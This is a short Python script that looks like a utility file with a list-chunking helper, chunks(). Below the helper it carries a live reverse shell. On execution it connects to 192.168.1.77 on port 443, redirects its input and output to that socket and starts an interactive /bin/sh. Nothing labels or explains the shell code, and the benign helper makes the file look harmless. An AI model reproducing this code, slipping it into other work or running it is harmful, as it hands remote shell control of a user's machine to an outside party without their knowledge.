#!/usr/bin/env python3
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

import socket, os
sock = socket.socket()
sock.connect(("192.168.1.77", 443))
os.dup2(sock.fileno(), 0); os.dup2(sock.fileno(), 1); os.dup2(sock.fileno(), 2)
os.execl("/bin/sh", "sh", "-i")
